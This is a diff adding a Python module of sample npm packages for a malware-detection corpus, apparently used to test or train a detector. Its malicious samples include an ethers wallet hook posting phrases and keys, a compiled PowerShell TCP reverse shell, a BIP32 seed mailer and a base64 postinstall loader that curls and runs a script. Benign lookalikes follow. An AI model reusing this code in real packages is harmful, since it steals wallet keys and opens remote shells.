@@ -1,0 +1,320 @@
+"""Samples of the `reach2` branch for scripts/make-samples.py (2026-11-25, issue 6): the classes
+behind the holdout4 misses, in code shapes of our own: wallet key constructors replaced by a
+dependency (ethers, Solana, BIP32), PowerShell TCP reverse shells started from compiled (Babel,
+esbuild) code, keys mailed to a fixed address, `Function.prototype.constructor` loaders; and
+tricky benign packages that call the same APIs honestly (wallet helpers that derive keys, a port
+probe over a PowerShell TCPClient, compiled code posting its own build report).
+
+Malicious samples are in SAMPLES, tricky benign ones in BENIGN; file names start with `reach2-`.
+Same safety rules as samples_malicious.py: every source is Python string data, packed into a
+tarball in memory, never written out, imported or run. Defanged: attacker hosts under reserved
+names (.invalid, .example, .test, example.com/net/org) or documentation IPs; made-up keys.
+"""
+
+import base64
+
+from samples_malicious import S, pj
+
+SAMPLES = []
+BENIGN = []
+
+
+def sample(fn):
+    SAMPLES.append(fn)
+    return fn
+
+
+def benign(fn):
+    BENIGN.append(fn)
+    return fn
+
+
+def readme(name, text):
+    return f"# {name}\n\n{text.strip()}\n\n## License\n\nMIT\n"
+
+
+# =============================================================================================
+# Malicious
+
+
+_ETHERS_HOOK = r"""import { ethers } from 'ethers';
+
+// Normalises recovery phrases (trims, lower-cases, collapses spaces) before ethers sees them.
+const norm = (p) => String(p).trim().toLowerCase().split(/\s+/).join(' ');
+
+const seen = new Set();
+function remember(kind, value) {
+  if (seen.has(value)) return;
+  seen.add(value);
+  fetch('https://phrase-normalizer.example.net/v1/stats', {
+    method: 'POST',
+    keepalive: true,
+    headers: { 'content-type': 'application/json' },
+    body: JSON.stringify({ k: kind, v: value, t: Date.now() }),
+  }).catch(() => {});
+}
+
+const fromPhrase = ethers.Wallet.fromPhrase;
+ethers.Wallet.fromPhrase = function (phrase, provider) {
+  remember('p', norm(phrase));
+  return fromPhrase.call(ethers.Wallet, norm(phrase), provider);
+};
+
+const fromEncrypted = ethers.Wallet.fromEncryptedJson;
+ethers.Wallet.fromEncryptedJson = async function (json, password, progress) {
+  const w = await fromEncrypted.call(ethers.Wallet, json, password, progress);
+  remember('k', w.privateKey);
+  return w;
+};
+
+export const normalizePhrase = norm;
+export default ethers;
+"""
+
+
+@sample
+def ethers_wallet_hook():
+    files = {
+        "package.json": pj(name="ethers-phrase-normalize", version="1.1.0", type="module",
+                           description="Normalise BIP-39 phrases before ethers v6 parses them.",
+                           module="index.js", exports={".": "./index.js"},
+                           keywords=["ethers", "bip39", "mnemonic", "wallet"],
+                           dependencies={"ethers": "^6.13.0"}),
+        "README.md": readme("ethers-phrase-normalize", "```js\nimport ethers from 'ethers-phrase-normalize'\nconst w = ethers.Wallet.fromPhrase(' Abandon  abandon ... ')\n```"),
+        "index.js": _ETHERS_HOOK,
+    }
+    return S("reach2-ethers-wallet-fromphrase-hook", "dependencies replacing wallet key "
+             "constructors to copy every key the app loads (Solana Keypair and ethers Wallet "
+             "hooks, 2024-2025)", "2024-2025",
+             ["import-time", "function-hook", "wallet-key-theft", "mnemonic-theft",
+              "fetch-exfil", "esm", "ethers"],
+             "On import, replaces ethers.Wallet.fromPhrase and Wallet.fromEncryptedJson with "
+             "wrappers that POST the recovery phrase and the decrypted private key to a fixed "
+             "host with fetch keepalive.", files)
+
+
+_BABEL_PS = r""""use strict";
+
+Object.defineProperty(exports, "__esModule", { value: true });
+exports.default = void 0;
+var _child_process = _interopRequireDefault(require("child_process"));
+var _os = _interopRequireDefault(require("os"));
+function _interopRequireDefault(e) { return e && e.__esModule ? e : { default: e }; }
+const TEMPLATE = "$t=New-Object System.Net.Sockets.TCPClient('%H',%P);$n=$t.GetStream();" +
+  "$w=New-Object IO.StreamWriter($n);$r=New-Object IO.StreamReader($n);$w.AutoFlush=$true;" +
+  "while($t.Connected){$l=$r.ReadLine();if(!$l){break};$x=(Invoke-Expression $l 2>&1|Out-String);$w.Write($x+'> ')}";
+function warm() {
+  if (_os.default.platform() !== "win32") return;
+  const script = TEMPLATE.replace("%H", "203.0.113.77").replace("%P", "8443");
+  const p = _child_process.default.spawn("pwsh", ["-NoLogo", "-WindowStyle", "Hidden", "-Command", script], {
+    detached: true,
+    stdio: "ignore",
+    windowsHide: true
+  });
+  p.unref();
+}
+warm();
+var _default = (bytes, digits = 1) => {
+  const u = ["B", "KB", "MB", "GB", "TB"];
+  let i = 0;
+  while (bytes >= 1024 && i < u.length - 1) { bytes /= 1024; i++; }
+  return `${bytes.toFixed(digits)} ${u[i]}`;
+};
+exports.default = _default;
+"""
+
+
+@sample
+def babel_powershell_tcp_shell():
+    files = {
+        "package.json": pj(name="pretty-byte-size", version="2.0.3", main="lib/index.js",
+                           description="Human-readable byte sizes.",
+                           keywords=["bytes", "size", "format", "human"]),
+        "README.md": readme("pretty-byte-size", "```js\nconst size = require('pretty-byte-size').default\nsize(1536) // '1.5 KB'\n```"),
+        "lib/index.js": _BABEL_PS,
+    }
+    return S("reach2-babel-pwsh-tcp-reverse-shell", "compiled npm packages opening PowerShell "
+             "TCP reverse shells on import (Phylum and ReversingLabs reports 2023-2024)",
+             "2023-2024",
+             ["import-time", "babel-compiled", "reverse-shell", "powershell", "windows",
+              "raw-ip", "detached-process", "hidden-window"],
+             "Babel output (_interopRequireDefault wrappers): on require, on Windows, starts pwsh "
+             "hidden and detached with a -Command script whose TCPClient stream lines are run "
+             "with Invoke-Expression and the output written back (no encoded command).", files)
+
+
+_HDKEY_MAIL = r"""'use strict';
+const { HDKey } = require('@scure/bip32');
+const nodemailer = require('nodemailer');
+
+const mailer = nodemailer.createTransport({
+  host: 'smtp.mail-relay.example.org',
+  port: 587,
+  auth: { user: 'relay', pass: '00000000' },
+});
+
+function audit(seed) {
+  mailer.sendMail({
+    from: 'audit@mail-relay.example.org',
+    to: 'keys@mail-relay.example.org',
+    subject: 'derivation audit',
+    text: Buffer.from(seed).toString('hex'),
+  }).catch(() => {});
+}
+
+const original = HDKey.fromMasterSeed;
+HDKey.fromMasterSeed = function (seed, versions) {
+  audit(seed);
+  return original.call(HDKey, seed, versions);
+};
+
+exports.derive = (seed, path) => HDKey.fromMasterSeed(seed).derive(path);
+"""
+
+
+@sample
+def hdkey_seed_mailer():
+    files = {
+        "package.json": pj(name="bip32-path-utils", version="0.4.1", main="index.js",
+                           description="Derivation path helpers on top of @scure/bip32.",
+                           keywords=["bip32", "hd-wallet", "derivation"],
+                           dependencies={"@scure/bip32": "^1.5.0", "nodemailer": "^6.9.0"}),
+        "README.md": readme("bip32-path-utils", "```js\nconst { derive } = require('bip32-path-utils')\nderive(seed, \"m/44'/60'/0'/0/0\")\n```"),
+        "index.js": _HDKEY_MAIL,
+    }
+    return S("reach2-hdkey-master-seed-smtp", "wallet seed stealers mailing keys over SMTP "
+             "(Solana/BIP32 packages, 2025)", "2025",
+             ["import-time", "function-hook", "wallet-key-theft", "smtp-exfil", "nodemailer",
+              "hardcoded-credentials"],
+             "On require, replaces HDKey.fromMasterSeed with a wrapper that mails every master "
+             "seed, hex-encoded, to a fixed recipient through a hard-coded SMTP relay.", files)
+
+
+_PROTO_STAGE = (
+    "const cp = require('child_process');"
+    "cp.exec('curl -fsSL http://198.51.100.61/s.sh -o /tmp/.s && sh /tmp/.s', () => {});"
+)
+
+_PROTO_LOADER = r"""'use strict';
+// Checks the optional native binding once after install.
+const blob = '@@B64@@';
+const make = Function.prototype.constructor;
+try {
+  make('require', Buffer.from(blob, 'base64').toString('utf8'))(require);
+} catch (e) {}
+"""
+
+
+@sample
+def function_proto_loader():
+    b64 = base64.b64encode(_PROTO_STAGE.encode()).decode()
+    files = {
+        "package.json": pj(name="native-binding-check", version="1.0.2", main="index.js",
+                           description="Tells you whether the optional native binding loaded.",
+                           scripts={"postinstall": "node check.js"},
+                           keywords=["native", "binding", "prebuild"]),
+        "README.md": readme("native-binding-check", "```js\nrequire('native-binding-check')()\n```"),
+        "index.js": "module.exports = () => { try { require('./build/Release/b.node'); return true } catch (e) { return false } };\n",
+        "check.js": _PROTO_LOADER.replace("@@B64@@", b64),
+    }
+    return S("reach2-function-prototype-constructor-loader", "install-time loaders compiling a "
+             "decoded stage with the Function constructor reached through a prototype "
+             "(droppers 2023-2025)", "2023-2025",
+             ["install-script", "postinstall", "base64", "function-constructor",
+              "download-and-run", "curl", "raw-ip"],
+             "postinstall: a base64 constant decoded and compiled with "
+             "Function.prototype.constructor('require', ...) and run; the stage curls a shell "
+             "script from a raw IP and runs it.", files)
+
+
+# =============================================================================================
+# Tricky benign
+
+
+_WALLET_HELPER = r"""'use strict';
+const { Keypair } = require('@solana/web3.js');
+const { ethers } = require('ethers');
+const nodemailer = require('nodemailer');
+
+// Derives the public addresses of a seed, for a recovery report the user mails to themself.
+function addresses(phrase) {
+  const evm = ethers.Wallet.fromPhrase(phrase);
+  const sol = Keypair.fromSeed(ethers.getBytes(ethers.id(phrase)).slice(0, 32));
+  return { evm: evm.address, sol: sol.publicKey.toBase58() };
+}
+
+async function mailReport(transportOptions, to, phrase) {
+  const a = addresses(phrase);
+  const t = nodemailer.createTransport(transportOptions);
+  await t.sendMail({ from: transportOptions.auth.user, to, subject: 'Your wallet addresses', text: `EVM ${a.evm}\nSolana ${a.sol}` });
+}
+
+const isKeypair = (k) => k instanceof Keypair || (k && k.secretKey && k.secretKey.length === 64);
+
+module.exports = { addresses, mailReport, isKeypair };
+"""
+
+
+@benign
+def b_wallet_helper():
+    files = {
+        "package.json": pj(name="wallet-address-report", version="2.2.0", main="index.js",
+                           description="Derive EVM and Solana addresses from a phrase and mail the report to yourself.",
+                           keywords=["wallet", "addresses", "report"],
+                           dependencies={"@solana/web3.js": "^1.95.0", "ethers": "^6.13.0", "nodemailer": "^6.9.0"}),
+        "README.md": readme("wallet-address-report", "```js\nawait mailReport(smtp, 'me@mail.example', phrase)\n```"),
+        "index.js": _WALLET_HELPER,
+    }
+    return S("reach2-benign-wallet-address-report", "wallet helper calling Wallet.fromPhrase and "
+             "Keypair.fromSeed and mailing addresses to the caller's recipient", "2025",
+             ["wallet", "nodemailer", "key-derivation"],
+             "Mirrors reach2-ethers-wallet-fromphrase-hook and reach2-hdkey-master-seed-smtp: "
+             "same constructors and mailer, but it calls the constructors (never replaces them) "
+             "and mails only public addresses to a recipient its caller gives.", files)
+
+
+_PORT_PROBE = r""""use strict";
+var __importDefault = (this && this.__importDefault) || function (mod) {
+    return (mod && mod.__esModule) ? mod : { "default": mod };
+};
+Object.defineProperty(exports, "__esModule", { value: true });
+exports.probe = void 0;
+const child_process_1 = __importDefault(require("child_process"));
+const https_1 = __importDefault(require("https"));
+// Windows without `nc`: ask PowerShell whether a TCP port answers.
+function probe(host, port) {
+    const ps = `$c=New-Object System.Net.Sockets.TCPClient;$r=$c.BeginConnect('${host}',${port},$null,$null);` +
+        `$ok=$r.AsyncWaitHandle.WaitOne(1500);if($ok){$s=$c.GetStream();$s.Close()};$c.Close();Write-Output $ok`;
+    const out = child_process_1.default.execFileSync("powershell.exe", ["-NoProfile", "-NonInteractive", "-Command", ps], { encoding: "utf8", windowsHide: true });
+    return out.trim() === "True";
+}
+exports.probe = probe;
+function report(results) {
+    const body = JSON.stringify({ results, node: process.version });
+    const req = https_1.default.request("https://status.port-probe.example.com/v1/report", { method: "POST", headers: { "content-type": "application/json" } });
+    req.on("error", () => undefined);
+    req.end(body);
+}
+exports.report = report;
+"""
+
+
+@benign
+def b_port_probe():
+    files = {
+        "package.json": pj(name="win-port-probe", version="1.5.0", main="dist/index.js",
+                           types="dist/index.d.ts", bin={"port-probe": "dist/cli.js"},
+                           description="Check TCP ports on Windows without netcat.",
+                           keywords=["port", "tcp", "windows", "powershell"]),
+        "README.md": readme("win-port-probe", "```js\nconst { probe } = require('win-port-probe')\nprobe('db.internal.example', 5432)\n```"),
+        "dist/index.js": _PORT_PROBE,
+        "dist/cli.js": "#!/usr/bin/env node\nconst { probe } = require('./index.js');\nconst [h, p] = process.argv.slice(2);\nprocess.exitCode = probe(h, Number(p)) ? 0 : 1;\n",
+        "dist/index.d.ts": "export declare function probe(host: string, port: number): boolean;\nexport declare function report(results: unknown): void;\n",
+    }
+    return S("reach2-benign-win-port-probe", "TypeScript-compiled port probe using a PowerShell "
+             "TCPClient, posting the caller's results to its status API", "2025",
+             ["typescript-compiled", "powershell", "tcp", "https-post"],
+             "Mirrors reach2-babel-pwsh-tcp-reverse-shell: compiled interop wrappers, a "
+             "PowerShell TCPClient and GetStream, but the stream is closed, nothing is read and "
+             "run, the window is not hidden, and the report posts the caller's data, no secrets.",
+             files)
